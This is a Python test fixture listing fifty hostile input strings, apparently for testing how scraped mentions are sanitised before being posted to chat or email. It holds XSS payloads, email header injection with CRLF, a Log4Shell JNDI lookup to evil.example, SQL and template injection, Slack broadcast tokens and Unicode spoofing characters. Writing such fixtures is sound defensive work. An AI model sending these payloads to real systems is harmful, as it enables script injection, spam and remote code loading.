"""Fifty hostile strings a scraped mention might carry."""

HOSTILE = [
    "<!channel>", "<!here>", "<!everyone>", "<@U123>", "<@U024BE7LH|bob>", "<#C123|general>",
    "<!subteam^S123|@team>", "<http://evil.example|click me>", "<https://phish.example/login|Your bank>",
    "<mailto:x@evil.example|mail>", "&lt;!channel&gt;", "&amp;lt;script&amp;gt;", "a > b < c & d",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "\"><script>alert(document.cookie)</script>", "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=//evil.example>", "<style>body{display:none}</style>", "<!-- comment -->",
    "Subject: hi\r\nBcc: victim@example.com", "x\nBcc: victim@example.com", "x\rTo: a@example.com",
    "line\r\n\r\n<html>injected body</html>", "=?utf-8?b?PHNjcmlwdD4=?=", "\u2028Bcc: a@example.com",
    "x\x85Cc: a@example.com", "@channel urgent", "@here look", "*bold* _it_ ~strike~ `code`",
    "```block```", "> quoted\n> more", "| pipe | table |", "[link](http://evil.example)",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "'; DROP TABLE mention; --", "\u202eevil\u202c",
    "\u200b\u200b<!channel>", "%0d%0aBcc: x@example.com", "\\r\\nBcc: x@example.com",
    "</td></tr></table><h1>big</h1>", "&#60;script&#62;", "\ufeffBOM<!here>", "😡 <@W123> 💥",
    "<http://evil.example>", "<tel:+15555550100|call>", "\t\t<!channel>\t", "AAAA" * 300 + "<!channel>",
]
assert len(HOSTILE) == 50
